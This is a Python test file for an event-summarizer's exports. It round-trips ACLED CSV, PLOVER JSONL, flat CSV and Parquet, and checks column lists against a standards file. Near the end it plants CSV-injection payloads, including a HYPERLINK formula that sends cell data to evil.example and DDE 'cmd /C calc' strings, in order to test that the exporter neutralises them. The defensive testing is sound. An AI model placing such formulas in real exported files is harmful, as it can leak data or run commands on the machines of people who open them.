"""Exports: column lists checked against the standards, and a round trip for every format."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from conftest import DATA
from scripted_records import scripted_records
from typer.testing import CliRunner

from summarizer.cli import app
from summarizer.export import (
    ACLED_COLUMNS,
    FLAT_SCHEMA,
    PLOVER_ENTITY_FIELDS,
    PLOVER_LOCATION_FIELDS,
    ExportFormat,
    export,
    interaction,
    spreadsheet_safe,
)
from summarizer.schema import ArticleAnalysis

STANDARDS = (DATA / "standards.md").read_text(encoding="utf-8")
runner = CliRunner()


@pytest.fixture(scope="module")
def records(request: pytest.FixtureRequest, scripted_url: str) -> list[ArticleAnalysis]:
    return scripted_records(request.config, scripted_url)


def _section(title: str) -> str:
    return STANDARDS.split(f"## {title}\n", 1)[1].split("\n## ", 1)[0]


def _expand(name: str) -> list[str]:
    """``actor1/2`` -> actor1, actor2; ``admin1–3`` -> admin1..3; ``latitude/longitude``."""
    name = re.sub(r"\s*\(.*?\)", "", name).strip()
    if m := re.fullmatch(r"(\w*?)(\d)[–-](\d)", name):
        return [f"{m[1]}{i}" for i in range(int(m[2]), int(m[3]) + 1)]
    if m := re.fullmatch(r"(\w*?)(\d)/(\d)", name):
        return [f"{m[1]}{m[2]}", f"{m[1]}{m[3]}"]
    return name.split("/")


def standard_acled_columns() -> set[str]:
    cells = re.findall(r"^\| ([^|]+) \|", _section("ACLED"), flags=re.M)
    names = [n for cell in cells if cell.strip() not in ("column", "---") for n in cell.split(",")]
    return {col for name in names for col in _expand(name)}


def standard_plover_fields() -> dict[str, set[str]]:
    """Top-level fields and the sub-fields of text_info, cite_info, size and the location."""
    text = _section("PLOVER").replace("\\*", "").replace("…", "")
    fields: dict[str, set[str]] = {"": set()}
    for label, body in re.findall(r"^- \*\*(.+?):\*\* (.+?)\.?$", text, flags=re.M):
        if label == "Location object":
            fields["event_loc"] = {re.sub(r"\s*\(.*", "", f).strip() for f in body.split(",")}
            continue
        for name, sub in re.findall(r"(\w+)(?:\{([^}]*)\})?", re.sub(r"\s*\(list\)", "", body)):
            fields[""].add(name)
            if sub:
                fields[name] = {s.strip() for s in sub.split(",") if s.strip()}
    entity = re.search(r"lists\* of `\{(.+?)\}`", text)
    assert entity, "the entity field list is missing from the standards copy"
    fields["entity"] = {re.sub(r"\s*\(.*", "", f).strip() for f in entity[1].split(",")}
    return fields


def test_acled_columns_are_the_standard_ones() -> None:
    # The reference's column table leaves out the two type columns (it lists their values under
    # "6 event types and their 25 sub-event types"); ACLED's export has both, 31 columns in all.
    expected = standard_acled_columns() | {"event_type", "sub_event_type"}
    assert len(expected) == 31
    assert set(ACLED_COLUMNS) == expected
    assert len(ACLED_COLUMNS) == len(set(ACLED_COLUMNS))


def test_plover_fields_are_the_standard_ones(
    records: list[ArticleAnalysis], tmp_path: Path
) -> None:
    standard = standard_plover_fields()
    assert set(PLOVER_ENTITY_FIELDS) == standard["entity"]
    assert set(PLOVER_LOCATION_FIELDS) == standard["event_loc"]
    path = tmp_path / "events.jsonl"
    export(records, ExportFormat.plover_jsonl, path)
    first = json.loads(path.read_text(encoding="utf-8").splitlines()[0])
    assert set(first) == standard[""]
    for name in ("text_info", "cite_info", "size"):
        assert set(first[name]) == standard[name], name


def test_acled_csv_round_trip(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    path = tmp_path / "acled.csv"
    assert export(records, ExportFormat.acled_csv, path) == sum(len(r.events) for r in records)
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == ACLED_COLUMNS
        rows = {row["event_id_cnty"]: row for row in reader}
    pairs = [(r, e) for r in records for e in r.events]
    assert len(rows) == len(pairs)
    for record, event in pairs:
        row = rows[f"{record.article.id}-{event.id}"]
        assert row["event_type"] == (event.acled_event_type or "")
        assert row["sub_event_type"] == (event.acled_sub_event_type or "")
        assert row["actor1"] == (event.actors[0].name if event.actors else "")
        assert row["assoc_actor_1"].split("; ") == [a.name for a in event.actors[1:]] or (
            row["assoc_actor_1"] == "" and len(event.actors) <= 1
        )
        assert row["actor2"] == (event.targets[0].name if event.targets else "")
        assert int(row["fatalities"]) == event.fatalities.min
        assert row["notes"] == event.summary
        assert row["location"] == (
            (event.location.geo_name or event.location.text) if event.location else ""
        )

    # The seed article's Friday strikes: day precision, ISO numeric code, state forces (1)
    # against an unidentified armed group (3).
    strike = rows["centcom-strikes-iraq-e1"]
    assert (strike["event_date"], strike["year"], strike["time_precision"]) == (
        "2020-03-13",
        "2020",
        "1",
    )
    assert (strike["iso"], strike["country"]) == ("368", "Iraq")
    assert (strike["inter1"], strike["inter2"], strike["interaction"]) == ("1", "3", "13")
    assert strike["disorder_type"] == "Political violence"
    # MUC documents have no publication date: nothing is resolved, so no ACLED date.
    assert rows["mucsum-TST1-MUC3-0036-e1"]["event_date"] == ""
    assert rows["mucsum-TST1-MUC3-0036-e1"]["time_precision"] == ""


def test_acled_week_and_month_dates_use_acled_midpoints(records: list[ArticleAnalysis]) -> None:
    from summarizer.export import acled_row

    record = records[0]
    event = record.events[0]
    event.date.precision, event.date.resolved = "week", event.date.resolved.replace(day=9)
    assert (acled_row(record, event)["event_date"], acled_row(record, event)["time_precision"]) == (
        "2020-03-12",
        2,
    )
    event.date.precision, event.date.resolved = "month", event.date.resolved.replace(day=1)
    assert acled_row(record, event)["event_date"] == "2020-03-15"
    event.date.precision = "year"
    assert acled_row(record, event)["event_date"] == ""


def test_interaction_puts_the_lower_code_first(records: list[ArticleAnalysis]) -> None:
    event = records[0].events[0].model_copy(deep=True)
    event.actors[0].sector, event.targets[0].sector = "CVL", "MIL"
    assert interaction(event) == "17"
    event.targets = []
    assert interaction(event) == "70"
    event.actors[0].sector = "GOV"  # government officials: state forces or civilians, unknown
    assert interaction(event) == ""


def test_plover_jsonl_round_trip(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    export(records, ExportFormat.plover_jsonl, path)
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    pairs = [(r, e) for r in records for e in r.events]
    assert len(lines) == len(pairs)
    for got, (record, event) in zip(lines, pairs, strict=True):
        assert got["id"] == f"{record.article.id}-{event.id}"
        assert got["event"] == [event.plover] and got["mode"] == event.plover_mode
        assert got["date"] == (str(event.date.resolved) if event.date.resolved else None)
        assert [a["identifier_text"] for a in got["actor"]] == [a.name for a in event.actors]
        assert [a["code"] for a in got["recipient"]] == [a.country for a in event.targets]
        assert got["size"]["dead"] == event.fatalities.min
        assert got["quad_code"] in (1, 2, 3, 4)
        start, end = got["text_info"]["start"], got["text_info"]["end"]
        assert start == min(s.start for s in event.evidence)
        assert end == max(s.end for s in event.evidence)
    protest = next(g for g in lines if g["id"] == "centcom-strikes-iraq-e3")
    assert protest["event"] == ["ACCUSE"] and protest["quad_code"] == 3


def test_flat_csv_and_parquet_round_trip(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    export(records, ExportFormat.csv, tmp_path / "events.csv")
    export(records, ExportFormat.parquet, tmp_path / "events.parquet")
    table = pq.read_table(tmp_path / "events.parquet")
    assert table.schema.remove_metadata() == FLAT_SCHEMA  # stable, typed
    parquet_rows = table.to_pylist()
    with (tmp_path / "events.csv").open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == FLAT_SCHEMA.names
        csv_rows = list(reader)
    pairs = [(r, e) for r in records for e in r.events]
    assert len(parquet_rows) == len(csv_rows) == len(pairs)
    for got, row, (record, event) in zip(parquet_rows, csv_rows, pairs, strict=True):
        assert got["article_id"] == row["article_id"] == record.article.id
        assert got["published"] == record.article.published
        assert got["date_resolved"] == event.date.resolved
        assert got["actors"] == [a.name for a in event.actors]
        assert row["actors"] == "; ".join(a.name for a in event.actors)
        assert got["weapons"] == [w.text for w in event.weapons]
        assert got["fatalities_min"] == event.fatalities.min == int(row["fatalities_min"])
        assert got["evidence_offsets"] == [f"{s.start}:{s.end}" for s in event.evidence]
        assert got["created_at"] == record.provenance.created_at
        assert row["validation_ok"] == str(record.validation.ok)


def test_export_command(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    source = tmp_path / "out.jsonl"
    source.write_text("".join(r.model_dump_json() + "\n" for r in records), encoding="utf-8")
    for fmt in ExportFormat:
        out = tmp_path / f"events.{fmt.value}"
        result = runner.invoke(app, ["export", str(source), "--format", fmt.value, "-o", str(out)])
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 0
        assert f"{sum(len(r.events) for r in records)} event(s) from 13 record(s)" in result.stderr


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        ("", "holds no record"),
        ('{"article": 1}\n', "line 1: not an ArticleAnalysis record"),
        ("{not json\n", "line 1: not JSON"),
        ("RECORD\n{not json\n", "line 2: not JSON"),
    ],
    ids=["empty", "not-a-record", "bad-json", "bad-second-line"],
)
def test_export_refuses_bad_records(
    records: list[ArticleAnalysis], tmp_path: Path, content: str, needle: str
) -> None:
    source = tmp_path / "out.jsonl"
    source.write_text(content.replace("RECORD", records[1].model_dump_json()), encoding="utf-8")
    args = ["export", str(source), "-f", "csv", "-o", str(tmp_path / "x.csv")]
    result = runner.invoke(app, args)
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and needle in lines[0], lines


# Cells a spreadsheet would run (OWASP CSV injection), planted in a record's text fields.
FORMULAS = {
    "id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "title": "+1+cmd|' /C calc'!A0",
    "source": ' "=1+1',  # after leading whitespace and a quote
    "summary": "-2+3+cmd|' /C calc'!A0",
    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "target": "\t=1+1",
    "place": "\r=1+1",
}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _runs_as_formula(cell: str) -> bool:
    """OWASP: a cell starting with = + - @ (after any whitespace or quotes), a tab or a CR."""
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n\"'")[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("fmt", [ExportFormat.acled_csv, ExportFormat.csv])
def test_csv_exports_neutralise_formulas(
    records: list[ArticleAnalysis], tmp_path: Path, fmt: ExportFormat
) -> None:
    record = records[0]
    record.article.id, record.article.title = FORMULAS["id"], FORMULAS["title"]
    record.article.source = FORMULAS["source"]
    event = record.events[0]
    event.summary = FORMULAS["summary"]
    event.actors[0].name, event.targets[0].name = FORMULAS["actor"], FORMULAS["target"]
    event.location.text = FORMULAS["place"]
    path = tmp_path / "events.csv"
    export(records, fmt, path)
    with path.open(encoding="utf-8", newline="") as f:
        table = list(csv.DictReader(f))
    cells = [c for row in table for c in row.values()]
    numbers = [c for c in cells if _runs_as_formula(c) and _is_number(c)]  # e.g. longitude -89.9
    assert not [
        c for c in cells if _runs_as_formula(c) and not c.startswith("'") and not _is_number(c)
    ]
    if fmt is ExportFormat.acled_csv:  # negative coordinates (MUCSUM's Americas) stay numbers
        assert numbers

    # The only change is the leading quote; numeric columns keep their numbers.
    row = table[0]
    acled = fmt is ExportFormat.acled_csv
    planted = {
        "event_id_cnty" if acled else "article_id": FORMULAS["id"] + ("-e1" if acled else ""),
        "source": FORMULAS["source"],
        "notes" if acled else "summary": FORMULAS["summary"],
        "actor1" if acled else "actors": FORMULAS["actor"],
    } | ({} if acled else {"title": FORMULAS["title"], "location": FORMULAS["place"]})
    for column, value in planted.items():
        assert row[column] == "'" + value, column
    assert row["actor2" if acled else "targets"].startswith("'" + FORMULAS["target"])
    for column in ("fatalities", "iso", "timestamp") if acled else ("fatalities_min",):
        assert int(row[column]) >= 0, column
    assert [r["notes" if acled else "summary"] for r in table[1:]] == [
        e.summary for r in records for e in r.events
    ][1:]  # ordinary text is untouched


def test_spreadsheet_safe_keeps_numbers() -> None:
    assert spreadsheet_safe(-33.9) == -33.9 and spreadsheet_safe(-4) == -4
    assert [spreadsheet_safe(s) for s in ("-33.9", "+4", "-1e-3", "12:40")] == [
        "-33.9", "+4", "-1e-3", "12:40",
    ]  # fmt: skip
    assert [spreadsheet_safe(s) for s in ("-1+1", "- 5", "@A1", " =1", "'=1", "\tx")] == [
        "'-1+1", "'- 5", "'@A1", "' =1", "''=1", "'\tx",
    ]  # fmt: skip
